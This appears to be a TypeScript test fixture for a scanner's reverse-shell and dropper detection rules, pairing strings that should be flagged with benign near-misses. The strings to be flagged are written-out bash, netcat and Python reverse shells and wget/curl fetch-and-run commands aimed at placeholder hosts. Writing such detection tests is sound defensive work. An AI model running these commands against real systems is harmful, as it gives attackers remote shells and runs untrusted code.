import { assembled } from "./assembled.js";
import { eachMissing, inside, MB, type RuleCases } from "./rule-case.js";

const BASH = "bash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1";
const NETCAT = "nc -¦e /bin/bash 192.0.2.1 4444";
const FETCH = "curl -O http://192.0.2.1:8080/a.sh && chm¦od +x a.sh && ./a.sh";
const PYTHON = [
  "import os, pty, socket",
  's = socket.socket(); s.connect(("192.0.2.1", 4444))',
  "os.du¦p2(s.fileno(), 0); os.du¦p2(s.fileno(), 1)",
  'pty.sp¦awn("/bin/sh")',
];

export const reverseShellCases: RuleCases = {
  Script_Bash_Reverse_Shell: {
    below: MB,
    found: {
      "the classic": assembled(BASH),
      "by a descriptor": assembled("exec 5<>/dev/t¦cp/192.0.2.1/4444; sh <&5 >&5 2>&5"),
      "a host by name": assembled("/bin/sh -i >& /dev/u¦dp/host.example.test/53 0>&1"),
    },
    passed: {
      "a port check": Buffer.from("timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo open"),
      "a request by hand": Buffer.from('exec 3<>/dev/tcp/example.test/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
      ...inside("a Linux program", assembled(BASH)),
      "an interactive shell": Buffer.from("bash -i > session.log 2>&1"),
    },
  },
  Script_Netcat_Reverse_Shell: {
    below: MB,
    found: {
      "through a pipe": assembled("rm /tmp/f; mkfi¦fo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f"),
      "by its option": assembled(NETCAT),
    },
    passed: {
      "a port check": Buffer.from("nc -z 192.0.2.1 4444 && /bin/sh -c 'echo open'"),
      ...inside("a Linux program", assembled(NETCAT)),
      "a pipe without a shell": Buffer.from("mkfifo /tmp/f; cat /tmp/f | gzip | nc 192.0.2.1 4444"),
    },
  },
  Script_Python_Reverse_Shell: {
    below: MB,
    found: {
      "with a terminal": assembled(PYTHON.join("\n")),
      "as one line": assembled([...PYTHON.slice(0, 3), 'subprocess.ca¦ll(["/bin/bash", "-i"])'].join("; ")),
    },
    passed: {
      ...eachMissing(PYTHON.slice(1), (parts) => assembled(parts.join("\n"))),
      ...inside("a Linux program", assembled(PYTHON.join("\n"))),
    },
  },
  Script_Shell_Fetches_And_Runs: {
    below: MB,
    found: {
      wget: assembled("cd /tmp; wget http://192.0.2.1/mips; chm¦od 777 mips; ./mips; rm -rf mips"),
      curl: assembled(FETCH),
    },
    passed: {
      ...inside("a Linux program", assembled(FETCH)),
      "a release from a named host": Buffer.from("wget https://example.test/tool; chmod +x tool; ./tool --help"),
      "a file that is not run": Buffer.from("wget http://192.0.2.1/list.txt; chmod 644 list.txt; cat list.txt"),
    },
  },
};
